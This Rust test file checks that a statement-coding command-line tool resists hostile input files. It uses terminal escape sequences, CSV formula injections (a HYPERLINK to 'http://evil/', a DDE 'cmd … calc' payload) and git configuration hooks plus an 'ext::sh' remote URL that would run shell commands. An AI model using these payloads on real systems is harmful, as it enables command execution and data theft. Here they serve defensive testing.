//! Files that someone else has made: what they may not do to whoever opens them.

use std::fs;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use crate::support::{Run, Workdir, bundled};

/// What would act on a terminal: a line wiped, a title set, the clipboard filled, and letters that read backwards.
const ESCAPES: &str =
    "\u{1b}[2K\r\u{1b}]0;title\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[35m\u{1b}[31m\u{9b}2K\u{202e}\u{200b}\u{2066}";

/// Runs the binary with colours, as on a terminal.
fn on_a_terminal(workdir: &Workdir, args: &[&str]) -> Run {
    workdir.command(args).env("CLICOLOR_FORCE", "1").output().unwrap().into()
}

/// What the binary prints on a terminal of its own, from util-linux's `script`. `None` if there is no such program.
#[expect(clippy::print_stderr, reason = "a test that is skipped says so")]
fn on_a_pty(workdir: &Workdir, args: &[&str]) -> Option<String> {
    let words = [env!("CARGO_BIN_EXE_stance")].iter().chain(args).chain(&["--corpus", "c"]);
    // A progress bar on the standard error is the program's own.
    let command = words.map(|word| format!("'{word}' ")).collect::<String>() + "2>/dev/null";
    let mut script = Command::new("script");
    script.args(["--quiet", "--return", "--command", &command, "/dev/null"]);
    let Ok(run) = script.current_dir(workdir.path()).stdin(Stdio::null()).output() else {
        eprintln!("SKIPPED: there is no program `script`, so nothing is printed on a terminal");
        return None;
    };
    let mut shown = String::from_utf8(run.stdout).unwrap();
    assert!(run.status.success(), "{args:?}: {shown}{}", String::from_utf8_lossy(&run.stderr));
    // The terminal ends each line with a carriage return.
    while shown.contains("\r\n") {
        shown = shown.replace("\r\n", "\n");
    }
    Some(shown)
}

/// Whether a text would act on a terminal. Colours of letters are the program's own, unless they are followed by what
/// follows them in [`ESCAPES`].
fn acts(text: &str) -> Option<String> {
    if text.contains("\u{1b}[31m\\u{9b}") {
        return Some("a colour of the file".to_owned());
    }
    let known = ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[4m", "\u{1b}[1;4m", "\u{1b}[31m", "\u{1b}[33m"];
    let known = known.into_iter().chain(["\u{1b}[36m", "\u{1b}[91m", "\u{1b}[93m", "\u{1b}[94m", "\u{1b}[96m"]);
    let text = known.fold(text.to_owned(), |text, code| text.replace(code, ""));
    let acts = |c: &char| {
        (c.is_control() && *c != '\n' && *c != '\t') || ('\u{200b}'..='\u{206f}').contains(c) && !c.is_alphanumeric()
    };
    let quotes = |c: &char| ('\u{2010}'..='\u{2027}').contains(c) || ('\u{202f}'..='\u{205f}').contains(c);
    let place = text.chars().position(|c| acts(&c) && !quotes(&c))?;
    Some(text.chars().skip(place.saturating_sub(20)).take(60).collect::<String>().escape_debug().to_string())
}

#[test]
fn nothing_in_a_file_acts_on_the_terminal() {
    let workdir = Workdir::with_fixture("base");
    let (name, words) = (format!("Ada {ESCAPES}"), format!("We will build the tram. {ESCAPES}No tram is dead."));
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["id", "date", "speaker", "text", "notes", "verified"]).unwrap();
    for (i, verified) in ["yes", "no", "yes"].iter().enumerate() {
        let day = format!("2025-03-0{}", i + 1);
        csv.write_record([&format!("a-{i}{ESCAPES}"), &day, &name, &words, ESCAPES, *verified]).unwrap();
    }
    let csv = csv.into_inner().unwrap();
    workdir.write("c/statements.csv", &csv);
    let label = |position: u8| {
        let id = format!("a-0{ESCAPES}").replace('"', "\"\"");
        format!("statement_id,issue,position,rationale\n\"{id}\",tram,{position},\n")
    };
    for (coder, position) in [("anna", 0), ("ben", 1)] {
        let _ = fs::remove_file(workdir.path().join(format!("c/labels/{coder}.csv")));
        workdir.write(&format!("c/labels/{coder}.csv"), label(position));
    }
    workdir.write("c/labels/note\u{1b}[2K\u{202e}.txt", "x");
    workdir.write(
        "article\u{202e}.txt",
        format!("5 March 2025\n\n“We {ESCAPES} will build the tram,” said Ada Holm.\n\nSubscribe {ESCAPES}now.\n"),
    );
    let ways: &[&[&str]] = &[
        &["check"],
        &["find", "tram"],
        &["explain", &format!("a-0{ESCAPES}")],
        &["explain", "a-0"],
        &["shifts"],
        &["shifts", "--speaker", "Ben"],
        &["agree"],
        &["rules"],
        &["rules", "lint"],
        &["rules", "test"],
        &["rules", "diff", "c/rules.toml"],
        &["chart", "timeline", "--out", "o"],
        &["extract", "article\u{202e}.txt", "--show-skipped", "-o", "p.csv"],
    ];
    for args in ways {
        let args: Vec<&str> = args.iter().copied().chain(["--corpus", "c"]).collect();
        let run = on_a_terminal(&workdir, &args);
        assert!(run.stdout.len() + run.stderr.len() > 0, "{args:?} says nothing");
        assert_eq!((acts(&run.stdout), acts(&run.stderr)), (None, None), "{args:?}");
    }
    // A review, which shows one proposal after another.
    workdir.write("p.csv", &csv);
    let run = on_a_terminal(&workdir, &["extract", "--review", "p.csv"]);
    assert!(run.stdout.contains("We will build the tram. \\u{1b}[2K"), "{}", run.stdout);
    assert_eq!(acts(&run.stdout), None);
    // Data are written out if a person reads them on a terminal.
    let name = "article\u{202e}.txt";
    for args in [
        &["extract", name, "--text"][..],
        &["extract", name],
        &["extract", name, "--format", "ndjson"],
        &["label", "--all", "--include-unverified"],
        &["label", "--all", "--include-unverified", "--format", "ndjson"],
        &["shifts", "--include-unverified", "--format", "csv"],
        &["shifts", "--include-unverified", "--format", "json"],
        &["agree", "--format", "json"],
    ] {
        let Some(shown) = on_a_pty(&workdir, args) else { break };
        assert!(shown.contains("\\u{") && shown.contains("tram"), "{args:?}: {shown}");
        assert_eq!(acts(&shown), None, "{args:?}");
    }
    // Data for programs are as they were.
    let text = workdir.run(&["extract", name, "--text", "--corpus", "c"]).stdout;
    assert!(text.contains(ESCAPES), "{text}");
    let data = on_a_terminal(&workdir, &["shifts", "--format", "csv", "--corpus", "c", "--include-unverified"]);
    assert!(data.stdout.contains("\u{1b}]0;title"), "{}{}", data.stdout, data.stderr);
}

/// Runs the binary, and ends it when it has not ended by itself.
fn ended(workdir: &Workdir, args: &[&str]) -> Run {
    let mut child = workdir.command(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let began = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if began.elapsed() > Duration::from_secs(30) {
            child.kill().unwrap();
            panic!("{args:?} waits for ever");
        }
        thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap().into()
}

#[test]
fn what_is_no_file_is_told_and_not_waited_for() {
    let pipe = |workdir: &Workdir, name: &str| {
        let path = workdir.path().join(name);
        let _ = fs::remove_file(&path);
        assert!(Command::new("mkfifo").arg(&path).status().unwrap().success());
    };
    for (name, args) in [
        ("c/rules.toml", &["check", "--corpus", "c"][..]),
        ("c/statements.csv", &["check", "--corpus", "c"]),
        ("c/labels/anna.csv", &["label", "--corpus", "c"]),
        ("font.ttf", &["chart", "timeline", "--corpus", "c", "--font", "font.ttf"]),
        ("other.toml", &["rules", "diff", "other.toml", "--corpus", "c"]),
    ] {
        let workdir = Workdir::with_fixture("base");
        pipe(&workdir, name);
        let run = ended(&workdir, args);
        let said = format!("{}{}", run.stdout, run.stderr);
        assert!(run.code > 0 && said.contains(&format!("{name}: this is a pipe")), "{said}");
    }
    let workdir = Workdir::with_fixture("base");
    fs::remove_file(workdir.path().join("c/events.csv")).unwrap_or(());
    std::os::unix::fs::symlink("/dev/zero", workdir.path().join("c/events.csv")).unwrap();
    fs::create_dir(workdir.path().join("c/labels/folder.csv")).unwrap();
    let run = ended(&workdir, &["check", "--corpus", "c"]);
    assert!(run.stdout.contains("c/events.csv: this is a pipe, a device"), "{}", run.stdout);
    assert!(run.stdout.contains("c/labels/folder.csv: this is a folder, not a file"), "{}", run.stdout);
}

#[test]
fn a_file_too_large_to_be_meant_is_told() {
    let workdir = Workdir::with_fixture("base");
    // A file with a hole takes no room on the disk.
    let file = fs::File::create(workdir.path().join("c/events.csv")).unwrap();
    file.set_len((2 << 30) + 1).unwrap();
    let run = ended(&workdir, &["check", "--corpus", "c"]);
    assert!(run.stdout.contains("c/events.csv: the file has more than 2048 MiB"), "{}", run.stdout);
}

#[test]
fn rules_diff_runs_no_command_of_a_repository() {
    let workdir = Workdir::with_fixture("base");
    let git = |args: &[&str]| {
        let identity = ["-c", "user.name=a", "-c", "user.email=a@example.org", "-C", "c"];
        let run = Command::new("git").current_dir(workdir.path()).args(identity).args(args).output().unwrap();
        assert!(run.status.success(), "{run:?}");
        String::from_utf8(run.stdout).unwrap().trim().to_owned()
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-qm", "x"]);
    let done = workdir.path().join("DONE");
    let act = format!("touch {}; true", done.display());
    for key in [
        "core.fsmonitor",
        "core.pager",
        "pager.cat-file",
        "pager.show",
        "core.sshCommand",
        "core.askPass",
        "core.alternateRefsCommand",
        "diff.external",
        "uploadpack.packObjectsHook",
        "alias.cat-file",
        "credential.helper",
    ] {
        git(&["config", key, &act]);
    }
    git(&["config", "filter.x.smudge", &act]);
    git(&["config", "diff.x.textconv", &act]);
    workdir.write("c/.gitattributes", "* filter=x diff=x\n");
    assert_eq!(workdir.run(&["rules", "diff", "HEAD", "--corpus", "c"]).code, 0);
    // The file is missing from the clone, and the configuration names a command to fetch it with.
    let blob = git(&["rev-parse", "HEAD:rules.toml"]);
    fs::remove_file(workdir.path().join(format!("c/.git/objects/{}/{}", &blob[..2], &blob[2..]))).unwrap();
    let url = format!("ext::sh -c touch% {}", done.display());
    for (key, value) in [
        ("core.repositoryformatversion", "1"),
        ("extensions.partialClone", "origin"),
        ("remote.origin.promisor", "true"),
        ("remote.origin.url", &url),
        ("protocol.allow", "always"),
        ("protocol.ext.allow", "always"),
        ("url.ext::sh.insteadOf", "https:"),
    ] {
        git(&["config", key, value]);
    }
    let run = ended(&workdir, &["rules", "diff", "HEAD", "--corpus", "c"]);
    assert!(run.code == 2 && run.stderr.contains("`HEAD` is neither a file nor a git revision"), "{}", run.stderr);
    assert!(!done.exists(), "a command of the repository has run");
    let run = workdir.run(&["rules", "diff", "--corpus", "c", "--", "--batch"]);
    assert!(run.stderr.contains("a revision does not begin with `-`"), "{}", run.stderr);
}

#[test]
fn no_cell_that_a_page_fills_is_a_formula() {
    let workdir = Workdir::with_fixture("base");
    let page = "<html><head><title>=HYPERLINK(\"http://evil/\"&amp;A1,\"Read\")</title>\
        <meta property=\"og:site_name\" content=\"@Evil\u{202e} \u{1b}[2K\"><link rel=\"canonical\" href=\"=1+1\"></head>\
        <body><article><p>12 September 2025</p><p>\"=1+1 We will build the tram,\" Alex Example said on Thursday.</p>\
        <p>\"-5 per cent is too much for any tram,\" Alex Example said.</p></article></body></html>";
    workdir.write("page.html", page);
    workdir.write(
        "page.txt",
        "=cmd|' /C calc'!A0\n\n12 September 2025\n\n\"@SUM(A1) We will not build it,\" Alex Example said.\n",
    );
    let run = workdir.run(&["extract", "page.html", "page.txt", "--corpus", "c", "--published", "2025-09-12"]);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3, "{}", run.stdout);
    let of = |row: usize, name: &str| rows[row][header.iter().position(|cell| cell == name).unwrap()].to_owned();
    assert_eq!(of(0, "source_title"), "HYPERLINK(\"http://evil/\"&A1,\"Read\")");
    assert_eq!((of(0, "source_publisher"), of(0, "source_url")), ("Evil [2K".to_owned(), String::new()));
    // The words begin behind the mark, are a stretch of the page, and keep the sign of a number.
    assert_eq!(of(0, "text"), "1+1 We will build the tram");
    assert_eq!(of(1, "text"), "-5 per cent is too much for any tram");
    assert_eq!(of(2, "text"), "SUM(A1) We will not build it");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
        assert!(!cell.contains(['\u{1b}', '\u{202e}']), "{cell}");
    }
    // What stands in a corpus already is not changed, and told.
    workdir.write(
        "c/statements.csv",
        "id,date,speaker,text,page\na-1,2025-03-01,Ada,=1+1 tram,@x\na-2,2025-03-02,Ada,-5 trams,+3\na-3,2025-03-02,Ada,=2,\n",
    );
    let check = workdir.run(&["check", "--corpus", "c"]).stdout;
    let told = "warning: 2 cells in the column text begin with a formula mark, the first in `a-1` with `=`";
    assert!(check.contains(told) && check.contains("1 cell in the column page begins"), "{check}");
    let labels = workdir.run(&["label", "--all", "--corpus", "c"]).stdout;
    assert!(labels.contains("=1+1 tram"), "{labels}");
}

#[test]
fn a_name_typed_in_several_ways_is_one_speaker() {
    let workdir = Workdir::with_fixture("base");
    let names = [
        "Zoë Kraft",
        "Zoe\u{308} Kraft",
        "Zoë\u{200b} Kraft",
        "Zoë\u{a0}Kraft",
        "zoë kraft",
        "Zoë Kraftt",
        "Ben Example",
    ];
    let row = |(i, name): (usize, &&str)| format!("s{i},2025-01-0{},{name},We will build the tram.\n", i + 1);
    let text = format!("id,date,speaker,text\n{}", names.iter().enumerate().map(row).collect::<String>());
    workdir.write("c/statements.csv", &text);
    workdir.write("c/labels/anna.csv", "statement_id,issue,position,rationale\n");
    let check = workdir.run(&["check", "--corpus", "c"]);
    let told = |rare: &str| {
        format!("2 speakers have nearly the same name: `{rare}` with 1 statement and `Zoë Kraft` with 4 statements")
    };
    assert!(
        check.stdout.contains(&told("zoë kraft")) && check.stdout.contains(&told("Zoë Kraftt")),
        "{}",
        check.stdout
    );
    assert!(check.code == 0 && check.stdout.contains("by 4 speakers"), "{}", check.stdout);
    let labels = |args: &[&str]| {
        let args: Vec<&str> = ["label", "--corpus", "c"].iter().chain(args).copied().collect();
        workdir.run(&args).stdout.lines().count() - 1
    };
    assert_eq!(labels(&["--speaker", "Zoe\u{308}\u{2009}Kraft "]), 4);
    let rules = String::from_utf8(workdir.read("c/rules.toml")).unwrap();
    workdir.write("c/rules.toml", format!("{rules}speaker = [\"Zoe\u{308} Kraft\"]\n"));
    assert_eq!(labels(&[]), 4);
    assert!(!workdir.run(&["check", "--corpus", "c"]).stdout.contains("there is no speaker"));
    let drawn = workdir.run(&["chart", "timeline", "--corpus", "c", "--speaker", "Zoë\u{a0}Kraft", "--out", "o"]);
    assert_eq!((drawn.code, drawn.stderr.as_str()), (0, ""));
    // Saving the corpus gives back what was written.
    let files = stance::corpus::Corpus::load(&workdir.path().join("c")).unwrap().to_files();
    assert_eq!(files[std::path::Path::new("statements.csv")], text);
    // So does an article, and speakers.toml.
    workdir.write("people.toml", "[[speaker]]\nname = \"Zoe\u{308} Kraft\"\n");
    workdir
        .write("a.txt", "5 March 2025\n\n“We will build the tram,” said Zoe\u{308} Kraft.\n\n“We wait,” Kraft said.\n");
    let rows = workdir.run(&["extract", "a.txt", "--speakers", "people.toml"]).stdout;
    assert_eq!(rows.matches(",Zoë Kraft,").count(), 2, "{rows}");
}

#[test]
fn the_order_of_rows_and_files_changes_nothing() {
    let workdir = Workdir::new();
    let corpus = bundled().into_iter().find(|path| path.ends_with("ukraine-2025")).unwrap();
    for name in ["a/x", "b/x"] {
        for file in ["codebook.toml", "rules.toml", "statements.csv", "events.csv"] {
            workdir.write(&format!("{name}/{file}"), fs::read(corpus.join(file)).unwrap());
        }
        for file in fs::read_dir(corpus.join("labels")).unwrap().flatten() {
            let to = format!("{name}/labels/{}", file.file_name().to_str().unwrap());
            workdir.write(&to, fs::read(file.path()).unwrap());
        }
    }
    let tables = fs::read_dir(workdir.path().join("b/x/labels")).unwrap().flatten().map(|file| file.path());
    let others = ["statements.csv", "events.csv"].map(|file| workdir.path().join("b/x").join(file));
    for table in tables.chain(others) {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&table).unwrap();
        let mut rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        rows[1..].reverse();
        let mut writer = csv::Writer::from_path(&table).unwrap();
        rows.iter().for_each(|row| writer.write_record(row).unwrap());
    }
    let hash = |name: &str| stance::corpus::Corpus::load(&workdir.path().join(name)).unwrap().fingerprint();
    assert_eq!(hash("a/x"), hash("b/x"));
    for args in [
        &["agree"][..],
        &["agree", "--by", "speaker", "--format", "json"],
        &["shifts"],
        &["label"],
        &["rules"],
        &["find", "territory"],
        &["chart", "timeline", "--format", "svg", "--out", "o"],
    ] {
        let run = |corpus: &str| workdir.run(&args.iter().copied().chain(["--corpus", corpus]).collect::<Vec<_>>());
        let (one, other) = (run("a/x"), run("b/x"));
        assert_eq!(one.code, 0, "{args:?} {}", one.stderr);
        assert!(one.stdout == other.stdout, "{args:?}\n{}\n{}", one.stdout, other.stdout);
    }
    let article = |day: u8| format!("{day} March 2025\n\n“We will build the tram and the bridge,” said Zoe Kraft.\n");
    workdir.write("1.txt", article(5));
    workdir.write("2.txt", article(5));
    let extract = |files: [&str; 2]| workdir.run(&["extract", files[0], files[1]]).stdout;
    assert_eq!(extract(["1.txt", "2.txt"]), extract(["2.txt", "1.txt"]));
}

#[test]
fn lists_stand_in_one_another_only_so_deep() {
    let workdir = Workdir::with_fixture("base");
    let list = |i: usize| format!("l{i:03} = [\"<l{:03}>\"]\n", i - 1);
    let lists: String = (1..200).map(list).collect();
    let rule = "[[rule]]\nid = \"r\"\nissue = \"tram\"\nposition = 1\nany = [\"<l019>\"]\n";
    workdir.write("c/rules.toml", format!("[lists]\nl000 = [\"tram\"]\n{lists}{rule}"));
    let run = workdir.run(&["check", "--corpus", "c"]);
    let told = "c/rules.toml:22:9: the list `l020` is nested too deep: more than 20 lists inside one another";
    assert!(run.stdout.starts_with(told) && run.stdout.contains("\n9 faults\n"), "{}", run.stdout);
}

#[test]
fn of_many_equal_faults_the_first_are_told() {
    let workdir = Workdir::with_fixture("base");
    workdir.write("c/statements.csv", format!("id,date,speaker,text{}\n", ",c".repeat(500)));
    let run = workdir.run(&["check", "--corpus", "c"]);
    assert_eq!(run.stdout.matches("2 columns have the name `c`").count(), 1);
    assert!(run.stdout.contains("19 more of this kind"), "{}", run.stdout);
    assert!(run.stdout.contains("479 more columns with the name of another column"), "{}", run.stdout);
}
